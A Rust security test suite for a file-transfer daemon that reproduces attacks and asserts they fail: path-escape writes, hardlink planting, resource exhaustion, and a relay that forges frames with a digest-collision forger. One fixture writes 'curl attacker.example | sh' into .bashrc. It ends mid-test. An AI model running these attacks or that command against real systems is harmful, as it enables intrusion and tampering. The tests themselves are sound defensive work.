//! The second attack review: each test reproduces one hole that was still
//! open after the "what the receiver trusts" rework, with real processes,
//! sockets and files, and asserts what should happen instead (so it fails
//! until the hole is closed).
//!
//! - A hostile daemon answering `urmove pull` may write only what was
//!   asked for: not any name beneath LOCAL.
//! - A local user of the root may plant a file or a hardlink at a part
//!   name; the daemon must never adopt that inode (it would write through
//!   a hardlink out of its root, and hand the planter a key holder's file).
//! - The state directory must not end up beneath the root by a symlinked
//!   parent when it does not exist yet.
//! - A key holder's `Have` list (pull --resume) is memory the daemon must
//!   bound like a manifest.
//! - A key holder must not hold the daemon's descriptors with files whose
//!   first block only it sent.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use urmove::protocol::control::{encode, Message};
use urmove::protocol::frame::{content_terms, FrameHeader, FrameKey};
use urmove::protocol::handshake::{Key, ServerHandshake};
use urmove::protocol::manifest::{Entry, EntryKind};
use urmove::protocol::seal::frame_key;
use urmove::session::link::conn::{recv_any, send_msg, Control};

use crate::require;
use crate::transfer::Daemon;
use crate::util::{
    data_stream, hand_push, handshake, is_root, key_of, noise, output_within, stderr, stdout,
    try_read_msg, urmove,
};

/// A bound against hangs only, never a speed check.
const HANG: Duration = Duration::from_secs(300);
const IO_WAIT: Duration = Duration::from_secs(30);

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir_in("/var/tmp").unwrap()
}

fn both(o: &Output) -> String {
    format!(
        "exit {:?}\nstdout: {}\nstderr: {}",
        o.status.code(),
        stdout(o),
        stderr(o)
    )
}

/// At most 60 bytes of `b`, readable.
fn shown(b: &[u8]) -> String {
    let s = String::from_utf8_lossy(&b[..b.len().min(60)]).into_owned();
    format!("{s:?} ({} bytes)", b.len())
}

fn entry(path: &str, kind: EntryKind, size: u64, mode: u32) -> Entry {
    Entry {
        path: path.into(),
        kind,
        size,
        data: 0,
        mode,
        mtime_s: 1_700_000_000,
        mtime_ns: 0,
        link: None,
        ..Default::default()
    }
}

// ---- a hostile daemon answering a pull -------------------------------

/// What a hostile daemon answers a pull with: a manifest of its choosing
/// and the content of each of its file entries (by index).
struct Answer {
    entries: Vec<Entry>,
    contents: Vec<(u32, Vec<u8>)>,
}

/// Accept one connection within [`IO_WAIT`] (the client may give up).
fn accept_within(l: &TcpListener) -> Result<TcpStream, String> {
    l.set_nonblocking(true).map_err(|e| e.to_string())?;
    let until = Instant::now() + IO_WAIT;
    loop {
        match l.accept() {
            Ok((s, _)) => {
                s.set_nonblocking(false).map_err(|e| e.to_string())?;
                s.set_read_timeout(Some(IO_WAIT))
                    .map_err(|e| e.to_string())?;
                return Ok(s);
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < until => {
                std::thread::sleep(Duration::from_millis(10))
            }
            Err(e) => return Err(format!("accept: {e}")),
        }
    }
}

/// A daemon that holds the key (every key holder does) and answers one
/// pull exactly as urmove's protocol wants, with `answer` for content.
fn hostile_daemon(key: Key, answer: Answer) -> (u16, JoinHandle<Result<(), String>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    (
        port,
        std::thread::spawn(move || serve_pull(&l, key, answer)),
    )
}

fn serve_pull(l: &TcpListener, key: Key, answer: Answer) -> Result<(), String> {
    let err = |what: &'static str| move |e: String| format!("{what}: {e}");
    let mut tcp = accept_within(l)?;
    let Message::Hello(hello) = try_read_msg(&mut tcp).map_err(|e| e.to_string())? else {
        return Err("no hello".into());
    };
    let mut hs = ServerHandshake::new(key, [7; 32], 16);
    let ch = hs.on_hello(&hello).map_err(|e| e.to_string())?;
    tcp.write_all(&encode(&Message::Challenge(ch)))
        .map_err(|e| e.to_string())?;
    let Message::Auth(auth) = try_read_msg(&mut tcp).map_err(|e| e.to_string())? else {
        return Err("no auth".into());
    };
    let (welcome, keys) = hs.on_auth(&auth, [9; 16]).map_err(|e| e.to_string())?;
    if let Some(welcome) = welcome {
        tcp.write_all(&encode(&Message::Welcome(welcome)))
            .map_err(|e| e.to_string())?;
    }
    let mut ctl = Control::new(tcp);
    ctl.secure(&keys, false);
    ctl.set_protocol(hs.version());
    let Message::Request(req) = recv_any(&mut ctl).map_err(|e| e.to_string())? else {
        return Err("no request".into());
    };
    let send = |ctl: &mut Control, m: &Message| send_msg(ctl, m).map_err(|e| e.to_string());
    send(&mut ctl, &Message::Manifest(answer.entries.clone())).map_err(err("manifest"))?;
    send(&mut ctl, &Message::ManifestEnd)?;
    send(&mut ctl, &Message::Ready)?;
    let mut streams = Vec::new();
    for _ in 0..req.streams {
        let mut s = accept_within(l)?;
        try_read_msg(&mut s).map_err(|e| format!("stream hello: {e}"))?;
        streams.push(s);
    }
    let mut digests = Vec::new();
    let mut bytes = 0;
    for (i, data) in &answer.contents {
        let h = FrameHeader::for_payload(&frame_key(&keys), *i, 0, data, 0);
        streams[0]
            .write_all(&h.encode())
            .and_then(|()| streams[0].write_all(data))
            .map_err(|e| format!("frame: {e}"))?;
        digests.push((*i, content_terms(0, data)));
        bytes += data.len() as u64;
    }
    send(&mut ctl, &Message::SourceDigests(digests))?;
    for s in &streams {
        let _ = s.shutdown(Shutdown::Write);
    }
    send(
        &mut ctl,
        &Message::Summary {
            files: answer.contents.len() as u64,
            bytes,
            ok: true,
        },
    )?;
    // Until the client hangs up.
    let mut sink = [0u8; 4096];
    let mut tcp = ctl.tcp();
    while matches!(tcp.read(&mut sink), Ok(n) if n > 0) {}
    Ok(())
}

fn pull_cmd(port: u16, key: &Path, state: &Path, what: &str, local: &Path) -> Command {
    let mut c = urmove();
    c.args(["pull", "-p", &port.to_string(), "-P", "1", "--json"])
        .arg("--key-file")
        .arg(key)
        .arg("--state-dir")
        .arg(state)
        .arg(format!("127.0.0.1:{what}"))
        .arg(local);
    c
}

/// `urmove pull HOST:data/run42 ~` asks for `~/run42` and nothing else;
/// a daemon (any key holder can run one, or sit where the client expects
/// its daemon) that answers with `.bashrc` or `.ssh` must not get them
/// written or re-moded beneath LOCAL (cf. scp's CVE-2019-6111).
#[test]
fn a_hostile_daemon_cannot_make_a_pull_write_outside_what_was_asked_for() {
    let work = tmp();
    let key = work.path().join("key");
    crate::util::keygen(&key);
    let home = work.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::set_permissions(home.join(".ssh"), PermissionsExt::from_mode(0o700)).unwrap();
    std::fs::write(home.join(".bashrc"), b"ORIGINAL bashrc\n").unwrap();
    let evil = b"curl attacker.example | sh\n".to_vec();
    let ok = noise(5000, 3);
    let answer = Answer {
        entries: vec![
            entry("run42", EntryKind::Dir, 0, 0o755),
            entry("run42/ok.dat", EntryKind::File, ok.len() as u64, 0o644),
            entry(".bashrc", EntryKind::File, evil.len() as u64, 0o644),
            entry(".ssh", EntryKind::Dir, 0, 0o777),
        ],
        contents: vec![(1, ok), (2, evil.clone())],
    };
    let (port, served) = hostile_daemon(key_of(&key), answer);
    let o = output_within(
        pull_cmd(port, &key, &work.path().join("state"), "data/run42", &home),
        HANG,
    );
    let _ = served.join();
    let bashrc = std::fs::read(home.join(".bashrc")).unwrap();
    assert!(
        bashrc == b"ORIGINAL bashrc\n",
        "the daemon wrote ~/.bashrc, which the pull never asked for, now {}: {}",
        shown(&bashrc),
        both(&o)
    );
    assert_eq!(
        std::fs::metadata(home.join(".ssh")).unwrap().mode() & 0o7777,
        0o700,
        "the daemon re-moded ~/.ssh, which the pull never asked for: {}",
        both(&o)
    );
    assert_ne!(
        o.status.code(),
        Some(0),
        "a pull that got entries it never asked for says ok: {}",
        both(&o)
    );
}

// ---- files planted at part names by a local user of the root ---------

/// A local user who can write in the destination plants a hardlink at the
/// part name of a file about to be pushed. The daemon opens the part
/// without O_EXCL and adopts that inode: it truncates and rewrites the
/// link's other name, which may be outside the root (any file on the same
/// filesystem the planter may link), and even re-modes and re-times it.
#[test]
fn a_hardlink_planted_at_a_part_name_is_never_written_through() {
    let parent = tmp();
    let d = Daemon::start_full(&[], "127.0.0.1", parent.path(), &[]);
    let outside = parent.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let victim = outside.join("victim");
    std::fs::write(&victim, b"VICTIM outside the root").unwrap();
    std::fs::set_permissions(&victim, PermissionsExt::from_mode(0o600)).unwrap();
    let dest = d.root.path().join("dest");
    std::fs::create_dir(&dest).unwrap();
    std::fs::hard_link(&victim, dest.join("f.urmove.part")).unwrap();

    let src = tmp();
    let f = src.path().join("f");
    std::fs::write(&f, noise(100_000, 5)).unwrap();
    let o = d.send(&["--json"], &[f.to_str().unwrap(), "127.0.0.1:dest"]);
    let outside_now = std::fs::read(&victim).unwrap();
    assert!(
        outside_now == b"VICTIM outside the root",
        "the daemon wrote through a hardlink into a file outside its root, now {}: {}",
        shown(&outside_now),
        both(&o)
    );
    assert_eq!(
        std::fs::metadata(&victim).unwrap().mode() & 0o7777,
        0o600,
        "the daemon re-moded a file outside its root"
    );
    assert_eq!(o.status.code(), Some(0), "{}", both(&o));
    let got = dest.join("f");
    assert!(
        std::fs::read(&got).unwrap() == std::fs::read(&f).unwrap(),
        "the received file differs"
    );
    assert_eq!(
        std::fs::metadata(&got).unwrap().nlink(),
        1,
        "the received file shares its inode with another name"
    );
}

/// The same with a plain file: the planter (here uid 65534) makes
/// `g.urmove.part` writable for itself and keeps it open. The daemon
/// adopts it, so the key holder's 0600 file ends up owned by the planter,
/// and every byte of it passed through a descriptor the planter holds
/// (which could as well have changed them between write and rename, with
/// `send` still saying "verified").
#[test]
fn a_part_file_planted_by_a_local_user_is_never_adopted() {
    require!(is_root(), "needs root to plant a file as another user");
    let d = Daemon::start();
    let dest = d.root.path().join("dest");
    std::fs::create_dir(&dest).unwrap();
    let planted = dest.join("g.urmove.part");
    std::fs::write(&planted, b"").unwrap();
    std::os::unix::fs::chown(&planted, Some(65534), Some(65534)).unwrap();
    std::fs::set_permissions(&planted, PermissionsExt::from_mode(0o666)).unwrap();
    let mut spy = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&planted)
        .unwrap();

    let src = tmp();
    let g = src.path().join("g");
    let secret = noise(200_000, 6);
    std::fs::write(&g, &secret).unwrap();
    std::fs::set_permissions(&g, PermissionsExt::from_mode(0o600)).unwrap();
    let o = d.send(&["--json"], &[g.to_str().unwrap(), "127.0.0.1:dest"]);
    assert_eq!(o.status.code(), Some(0), "{}", both(&o));
    let got = dest.join("g");
    let m = std::fs::metadata(&got).unwrap();
    let mut seen = Vec::new();
    spy.read_to_end(&mut seen).unwrap();
    assert!(
        seen != secret,
        "the planter read the key holder's 0600 file through its own descriptor"
    );
    assert_eq!(
        m.uid(),
        0,
        "the received file belongs to uid {}, who planted its part name",
        m.uid()
    );
    assert!(
        std::fs::read(&got).unwrap() == secret,
        "the received file differs"
    );
}

/// A local user plants directories at a file's name, at another's part
/// name and at a third's journal temporary: those three are skipped with
/// their reasons before any data (exit 23, as rsync's partial), every
/// other file lands verified, the planted directories stay as they were,
/// and a run again does the same (one bad entry never sinks the rest, run
/// after run). A sharded send too.
#[test]
fn directories_planted_at_a_name_or_a_part_name_skip_that_file_alone() {
    let d = Daemon::start();
    let src = tmp();
    let top = src.path().join("data");
    std::fs::create_dir_all(&top).unwrap();
    for i in 0..5 {
        std::fs::write(
            top.join(format!("g{i}")),
            noise(30_000 + i * 1000, i as u64),
        )
        .unwrap();
    }
    std::fs::write(top.join("F"), noise(8 << 20, 9)).unwrap();
    let dest = d.root.path().join("in/data");
    for planted in ["F.urmove.part/inner", "g2/inner", "g4.urmove.journal.tmp"] {
        std::fs::create_dir_all(dest.join(planted)).unwrap();
    }
    let send = |extra: &[&str]| {
        let mut args = vec!["--json", "--block", "1M"];
        args.extend_from_slice(extra);
        let o = d.send(&args, &[top.to_str().unwrap(), "127.0.0.1:in"]);
        assert_eq!(o.status.code(), Some(23), "{}", both(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let skipped = v["skipped"].to_string();
        assert!(
            skipped.contains("data/F") && skipped.contains("F.urmove.part"),
            "{v}"
        );
        v
    };
    for _ in 0..2 {
        let v = send(&[]);
        let skipped = v["skipped"].to_string();
        assert!(skipped.contains("g4.urmove.journal.tmp"), "{v}");
        assert!(
            skipped.contains("data/g2") && skipped.contains("directory"),
            "{v}"
        );
        assert_eq!(v["files_skipped"], 3, "{v}");
        for i in [0, 1, 3] {
            let got = std::fs::read(dest.join(format!("g{i}"))).unwrap();
            assert!(got == std::fs::read(top.join(format!("g{i}"))).unwrap());
        }
        assert!(dest.join("F.urmove.part/inner").is_dir() && dest.join("g2/inner").is_dir());
        assert!(!dest.join("F").exists());
    }
    // A shard whose piece of F cannot land: the same, its other files sent.
    send(&["--shard", "0/2", "--split-over", "2M"]);
    // A pull into a directory where one is planted: the daemon sends the
    // rest, and not that file.
    let local = tmp();
    std::fs::create_dir_all(local.path().join("data/g3/inner")).unwrap();
    let o = urmove()
        .args(["pull", "--json", "-p", &d.port.to_string(), "--key-file"])
        .arg(&d.key)
        .arg("127.0.0.1:in/data")
        .arg(local.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(23), "{}", both(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["files_skipped"], 1, "{v}");
    assert_eq!(
        v["bytes"],
        v["bytes_total"].as_u64().unwrap() - 33_000,
        "{v}"
    );
    for i in [0, 1] {
        let got = std::fs::read(local.path().join(format!("data/g{i}"))).unwrap();
        assert!(got == std::fs::read(top.join(format!("g{i}"))).unwrap());
    }
}

// ---- the state directory ---------------------------------------------

/// `--state-dir` is checked against the root after canonicalizing both;
/// a state directory that does not exist yet is compared as written, so
/// `LINK/state` with `LINK -> ROOT` passes, and the daemon then creates
/// its secret beneath its root, where a pull hands it to any key holder.
#[test]
fn a_state_dir_reached_through_a_symlinked_parent_never_lands_beneath_the_root() {
    let work = tmp();
    let key = work.path().join("key");
    crate::util::keygen(&key);
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    std::os::unix::fs::symlink("root", work.path().join("link")).unwrap();
    let state = work.path().join("link/state");
    let mut child = urmove()
        .args(["recv", "--listen", "127.0.0.1:0", "--root"])
        .arg(&root)
        .arg("--key-file")
        .arg(&key)
        .arg("--state-dir")
        .arg(&state)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let secret = root.join("state/secret");
    let until = Instant::now() + IO_WAIT;
    let exited = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break Some(st);
        }
        if secret.exists() || Instant::now() > until {
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let _ = child.kill();
    let _ = child.wait();
    let mut log = String::new();
    let _ = child.stderr.take().unwrap().read_to_string(&mut log);
    assert!(
        !secret.exists(),
        "the daemon made its secret beneath its root (exited: {exited:?}): {log}"
    );
}

// ---- a key holder holding the daemon's descriptors ---------------------

fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count())
}

/// A part file is opened on its file's first block and closed only when
/// the file is done; nothing bounds how many are open at once. A key
/// holder sends the first block of each of a thousand two-block files (as
/// a hole: a 32-byte header) and stops: every part stays open, and the daemon's descriptors run out for
/// everyone else (a second sender cannot even be accepted). One session
/// must not hold more parts open than a small bound (its file slots,
/// closing and reopening idle parts beyond them).
#[test]
fn a_key_holder_cannot_hold_the_daemons_descriptors_with_half_sent_files() {
    const LIMIT: usize = 1024;
    let nofile = format!("--nofile={LIMIT}:{LIMIT}");
    let d = Daemon::start_full(
        &["prlimit", &nofile],
        "127.0.0.1",
        Path::new("/var/tmp"),
        &["--timeout", "120s"],
    );
    let files = 1200;
    let entries: Vec<Entry> = (0..files)
        .map(|i| entry(&format!("f{i:04}"), EntryKind::File, 8192, 0o644))
        .collect();
    let (ctl, keys) = hand_push(d.port, &d.key, entries, 1, 4096).expect("ready");
    let mut data = data_stream(d.port, &keys, 0);
    let pid = d.pid();
    let mut sent = 0;
    // A hole for the first block of each file (32 bytes on the wire, too
    // few for a journal), a few at a time, then one by one, each time
    // until the daemon has opened the parts, stopping just short of the
    // limit (an attacker who overshoots only ends its own session). A
    // daemon whose descriptors stop growing bounds them: send the rest.
    let mut stalls = 0;
    'attack: while sent < files && open_fds(pid) + 6 < LIMIT {
        let before = open_fds(pid);
        let batch = if before + 64 < LIMIT { 8 } else { 1 };
        let upto = if stalls >= 3 {
            files
        } else {
            (sent + batch).min(files)
        };
        for i in sent..upto {
            if data
                .write_all(&FrameHeader::hole(&frame_key(&keys), i as u32, 0).encode())
                .is_err()
            {
                break 'attack; // the daemon ended this session: fine
            }
        }
        sent = upto;
        let until = Instant::now() + Duration::from_millis(500);
        while open_fds(pid) < before + batch && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(5));
        }
        stalls = if open_fds(pid) > before {
            0
        } else {
            stalls + 1
        };
    }
    std::thread::sleep(Duration::from_millis(200));
    let held = open_fds(pid);

    // Another key holder, meanwhile.
    let src = tmp();
    let v = src.path().join("v.dat");
    std::fs::write(&v, noise(300_000, 12)).unwrap();
    let o = output_within(
        {
            let mut c = urmove();
            c.args(["send", "-p", &d.port.to_string(), "--key-file"])
                .arg(&d.key)
                .args(["--timeout", "10s", "--json"])
                .arg(&v)
                .arg("127.0.0.1:victim");
            c
        },
        HANG,
    );
    drop((ctl, data));
    assert_eq!(
        o.status.code(),
        Some(0),
        "with one session holding {held} of the daemon's {LIMIT} descriptors ({sent} files half sent), another sender failed: {}",
        both(&o)
    );
}

// ---- a key holder's resume list ---------------------------------------

fn proc_kib(pid: u32, field: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix(field))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

/// `pull --resume`: the client says which blocks it holds, and the daemon
/// keeps every range (re-sorting the whole list for each item) before it
/// checks any. Nothing counts them against `--max-manifest-memory` or any
/// other bound but the file's block count, so one key holder pulling one
/// sparse file (pushed by itself in a few MB of hole frames, if need be)
/// makes the daemon hold gigabytes. Here 16 MiB is the manifest budget and
/// the list is 192 MiB of ranges.
#[test]
fn a_key_holders_resume_list_is_memory_the_daemon_bounds() {
    use urmove::protocol::control::{
        Direction, HaveItem, SessionRequest, HAVE_PART_RANGES_MAX, REQ_RESUME,
    };
    let d = Daemon::start_full(
        &[],
        "127.0.0.1",
        Path::new("/var/tmp"),
        &["--max-manifest-memory", "16M"],
    );
    std::fs::File::create(d.root.path().join("big"))
        .unwrap()
        .set_len(128 << 30)
        .unwrap();
    let (mut ctl, _keys) = handshake(d.port, &d.key);
    send_msg(
        &mut ctl,
        &Message::Request(SessionRequest {
            filter: Vec::new(),
            owner: [0; 32],
            rate_limit: 0,
            direction: Direction::Pull,
            streams: 1,
            block_size: 4096,
            flags: REQ_RESUME,
            path: "big".into(),
            time_ms: 0,
        }),
    )
    .unwrap();
    loop {
        match recv_any(&mut ctl) {
            Ok(Message::ManifestEnd) => break,
            Ok(Message::Manifest(_) | Message::Alive { .. }) => {}
            other => panic!("no manifest from the daemon: {other:?}"),
        }
    }
    let pid = d.pid();
    let base = proc_kib(pid, "VmRSS:");
    let per = u64::from(HAVE_PART_RANGES_MAX);
    let messages = 192;
    let mut sent = 0;
    for m in 0..messages {
        // Every other block, one block a range: disjoint, sorted, within
        // the file's 32 Mi blocks.
        let ranges = (0..per).map(|k| ((m * per + k) * 2, 1)).collect();
        let have = Message::Have(vec![HaveItem::Partial {
            file_index: 0,
            digest: 0,
            ranges,
        }]);
        if send_msg(&mut ctl, &have).is_err() {
            break;
        }
        sent += 1;
    }
    let peak_mib = proc_kib(pid, "VmHWM:").saturating_sub(base) >> 10;
    let refused = sent < messages
        || sealed_until_closed(&mut ctl)
            .iter()
            .any(|m| matches!(m, Message::Error { .. }));
    assert!(
        peak_mib < 128 && refused || peak_mib < 64,
        "the daemon took {peak_mib} MiB more for one session's resume list ({sent} MiB of ranges, refused: {refused}), with a manifest budget of 16 MiB"
    );
}

/// A pull's client says which entries it will not create before it places
/// the rest; a key holder who names more refusals than the manifest has
/// entries, or beats instead of placing, is refused with the reason, and
/// the daemon goes on serving.
#[test]
fn a_pull_client_refusing_more_entries_than_there_are_or_beating_is_refused() {
    use urmove::protocol::control::{Direction, ErrorCode, SessionRequest};
    let d = Daemon::start();
    std::fs::write(d.root.path().join("one"), b"one file").unwrap();
    let (mut ctl, _keys) = handshake(d.port, &d.key);
    send_msg(
        &mut ctl,
        &Message::Request(SessionRequest {
            filter: Vec::new(),
            owner: [0; 32],
            rate_limit: 0,
            direction: Direction::Pull,
            streams: 1,
            block_size: 4096,
            flags: 0,
            path: "one".into(),
            time_ms: 0,
        }),
    )
    .unwrap();
    loop {
        match recv_any(&mut ctl) {
            Ok(Message::ManifestEnd) => break,
            Ok(Message::Manifest(_) | Message::Alive { .. }) => {}
            other => panic!("no manifest from the daemon: {other:?}"),
        }
    }
    for _ in 0..1000 {
        let m = Message::Skipped {
            file_index: 0,
            path: String::new(),
            reason: "no".into(),
            rule: false,
        };
        if send_msg(&mut ctl, &m).is_err() {
            break;
        }
    }
    let got = sealed_until_closed(&mut ctl);
    assert!(
        got.iter().any(|m| matches!(m, Message::Error { code: ErrorCode::Malformed, message } if message.contains("more entries refused"))),
        "{got:?}"
    );
    // Nor does a client hold the session with heartbeats instead of its
    // placement (it has nothing to prepare that long).
    let (mut ctl, _keys) = handshake(d.port, &d.key);
    send_msg(
        &mut ctl,
        &Message::Request(SessionRequest {
            filter: Vec::new(),
            owner: [0; 32],
            rate_limit: 0,
            direction: Direction::Pull,
            streams: 1,
            block_size: 4096,
            flags: 0,
            path: "one".into(),
            time_ms: 0,
        }),
    )
    .unwrap();
    loop {
        match recv_any(&mut ctl) {
            Ok(Message::ManifestEnd) => break,
            Ok(Message::Manifest(_) | Message::Alive { .. }) => {}
            other => panic!("no manifest from the daemon: {other:?}"),
        }
    }
    // Around this side's own table, which will not send it.
    crate::util::write_sealed(&mut ctl, encode(&Message::Alive { streams: vec![] }));
    let got = sealed_until_closed(&mut ctl);
    assert!(
        got.iter().any(|m| matches!(m, Message::Error { code: ErrorCode::Malformed, message } if message.to_lowercase().contains("placement"))),
        "{got:?}"
    );
    // The daemon serves the next session.
    let back = tempfile::tempdir().unwrap();
    let o = urmove()
        .args(["pull", "-p", &d.port.to_string(), "--key-file"])
        .arg(&d.key)
        .arg("127.0.0.1:one")
        .arg(back.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(std::fs::read(back.path().join("one")).unwrap(), b"one file");
}

/// What the daemon sends until it closes (or, still silent after a few
/// seconds, nothing more).
fn sealed_until_closed(c: &mut Control) -> Vec<Message> {
    let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
    let mut out = Vec::new();
    while let Ok(m) = recv_any(c) {
        out.push(m);
    }
    out
}

// ---- the path: a forged frame with the file's own digest ---------------

/// Bytes that differ from `data` (64 pieces of 4 KiB) in every piece yet
/// have the same urmove digest. The digest is a plain sum (mod 2^64) of
/// per-piece terms anyone can compute, so Wagner's generalised birthday
/// (a k-tree over 64 lists of 1024 variants of each piece, 10 bits zeroed
/// a level) finds a set of variants whose terms sum to the original's:
/// 65,536 piece hashes, a second or so.
fn forge_same_digest(data: &[u8]) -> Vec<u8> {
    forge_same_digest_at(data, 0)
}

/// [`forge_same_digest`] of `data` lying at `base` in its file.
pub(crate) fn forge_same_digest_at(data: &[u8], base: u64) -> Vec<u8> {
    use std::collections::HashMap;
    const PIECE: usize = 4096;
    const LISTS: usize = 64;
    const PER: u16 = 1024;
    const BITS: u32 = 10;
    assert_eq!(data.len(), LISTS * PIECE);
    let variant = |i: usize, c: u16| {
        let mut p = data[i * PIECE..(i + 1) * PIECE].to_vec();
        p[..8].copy_from_slice(&(0xBAD0_0000_0000_0000 | u64::from(c)).to_le_bytes());
        p
    };
    // Each node: (sum of deltas, the variant picked for each of its lists).
    let mut level: Vec<Vec<(u64, Vec<u16>)>> = (0..LISTS)
        .map(|i| {
            let off = base + (i * PIECE) as u64;
            let orig = content_terms(off, &data[i * PIECE..(i + 1) * PIECE]);
            (0..PER)
                .map(|c| {
                    let d = content_terms(off, &variant(i, c)).wrapping_sub(orig);
                    (d, vec![c])
                })
                .collect()
        })
        .collect();
    let mut depth = 1;
    while level.len() > 1 {
        // The last merge zeroes every bit that is left.
        let mask = match level.len() {
            2 => u64::MAX,
            _ => (1u64 << (depth * BITS)) - 1,
        };
        level = level
            .chunks(2)
            .map(|pair| {
                let (a, b) = (&pair[0], &pair[1]);
                let mut by_low: HashMap<u64, Vec<usize>> = HashMap::new();
                for (k, (s, _)) in b.iter().enumerate() {
                    by_low.entry(s & mask).or_default().push(k);
                }
                let mut out = Vec::new();
                for (s, picks) in a {
                    for &k in by_low.get(&(s.wrapping_neg() & mask)).into_iter().flatten() {
                        let mut p = picks.clone();
                        p.extend_from_slice(&b[k].1);
                        out.push((s.wrapping_add(b[k].0), p));
                    }
                }
                out
            })
            .collect();
        depth += 1;
    }
    let (sum, picks) = level[0].first().expect("the k-tree found a collision");
    assert_eq!(*sum, 0);
    (0..LISTS).flat_map(|i| variant(i, picks[i])).collect()
}

/// A relay on the path (no key) that passes everything through, but on
/// data streams replaces the payload of the frame at (file 0, offset 0)
/// of `forged.len()` bytes with `forged`, recomputing its checksum.
fn forging_relay(daemon: u16, forged: Vec<u8>) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let forged = std::sync::Arc::new(forged);
    std::thread::spawn(move || {
        for client in l.incoming() {
            let Ok(client) = client else { return };
            let Ok(up) = TcpStream::connect(("127.0.0.1", daemon)) else {
                return;
            };
            let (c2, u2) = (client.try_clone().unwrap(), up.try_clone().unwrap());
            std::thread::spawn(move || pass(u2, c2));
            let forged = std::sync::Arc::clone(&forged);
            std::thread::spawn(move || forge_frames(client, up, &forged));
        }
    });
    port
}

fn pass(mut from: TcpStream, mut to: TcpStream) {
    let _ = std::io::copy(&mut from, &mut to);
    let _ = to.shutdown(Shutdown::Write);
}

fn forge_frames(mut from: TcpStream, mut to: TcpStream, forged: &[u8]) {
    use urmove::protocol::frame::FRAME_HEADER_LEN;
    // The first message, byte by byte: a data stream's hello, or a
    // control connection's (passed through untouched).
    let mut first = Vec::new();
    let mut byte = [0u8; 1];
    while crate::util::messages(&first).is_empty() {
        if first.len() > 4096 || from.read_exact(&mut byte).is_err() {
            let _ = to.shutdown(Shutdown::Write);
            return;
        }
        first.push(byte[0]);
    }
    let data = matches!(
        crate::util::messages(&first)[0],
        Message::StreamHello { .. }
    );
    if to.write_all(&first).is_err() {
        return;
    }
    if !data {
        return pass(from, to);
    }
    let mut head = [0u8; FRAME_HEADER_LEN];
    while from.read_exact(&mut head).is_ok() {
        let Ok(h) = FrameHeader::decode(&head) else {
            let _ = to.write_all(&head);
            return pass(from, to);
        };
        let mut payload = vec![0u8; h.length as usize];
        if from.read_exact(&mut payload).is_err() {
            break;
        }
        let mut out = head;
        if h.file_index == 0 && h.offset == 0 && payload.len() == forged.len() {
            payload.copy_from_slice(forged);
            // The relay has no key: the checksum it recomputes is under a
            // key it guessed.
            let guess = FrameKey { k0: 0, k1: 0 };
            out = FrameHeader::for_payload(&guess, 0, 0, &payload, h.flags).encode();
        }
        if to.write_all(&out).is_err() || to.write_all(&payload).is_err() {
            break;
        }
    }
    let _ = to.shutdown(Shutdown::Write);
}

/// Without `--encrypt`, the whole-file digest is a plain sum of per-piece
/// terms anyone can compute and collide in about a second (see
/// `forge_same_digest`). A relay on the path swaps every 4 KiB piece of a
/// file for bytes with the same digest. It was committed and counted
/// verified while frame checksums were unkeyed; a frame's checksum is now
/// keyed with the session, so the relay cannot make one for its bytes and
/// the frame is refused.
#[test]
fn a_relay_on_the_path_cannot_make_forged_bytes_count_as_verified() {
    let src = tmp();
    let f = src.path().join("f.dat");
    let data = noise(64 * 4096, 13);
    std::fs::write(&f, &data).unwrap();
    let forged = forge_same_digest(&data);
    assert_eq!(content_terms(0, &forged), content_terms(0, &data));
    assert!((0..64).all(|i| forged[i * 4096..][..8] != data[i * 4096..][..8]));

    let d = Daemon::start();
    let relay = forging_relay(d.port, forged);
    let mut c = urmove();
    c.args(["send", "-p", &relay.to_string(), "--key-file"])
        .arg(&d.key)
        .args(["-P", "1", "--block", "1M", "--json"])
        .arg(&f)
        .arg("127.0.0.1:in");
    let o = output_within(c, HANG);
    let got = std::fs::read(d.root.path().join("in/f.dat")).ok();
    let same = got.as_deref() == Some(&data[..]);
    assert!(
        same || o.status.code() != Some(0),
        "forged bytes were committed and counted verified: {}",
        both(&o)
    );
}

/// The journal of a file still arriving is written to
/// `NAME.urmove.journal.tmp` opened with O_CREAT | O_TRUNC (no O_EXCL),
/// then renamed. A local user who links that name, once the part exists
/// (its first block removes any earlier one), to a file of its choosing
/// has the daemon truncate it and write the journal into it, outside the
/// root if the link leads there.
#[test]
fn a_hardlink_planted_at_a_journal_temporary_is_never_written_through() {
    let parent = tmp();
    let d = Daemon::start_full(&[], "127.0.0.1", parent.path(), &[]);
    let outside = parent.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let victim = outside.join("victim");
    std::fs::write(&victim, b"VICTIM outside the root").unwrap();
    let dest = d.root.path().join("dest");
    std::fs::create_dir(&dest).unwrap();

    let src = tmp();
    let j = src.path().join("j.dat");
    std::fs::write(&j, noise(8 << 20, 14)).unwrap();
    let mut c = urmove();
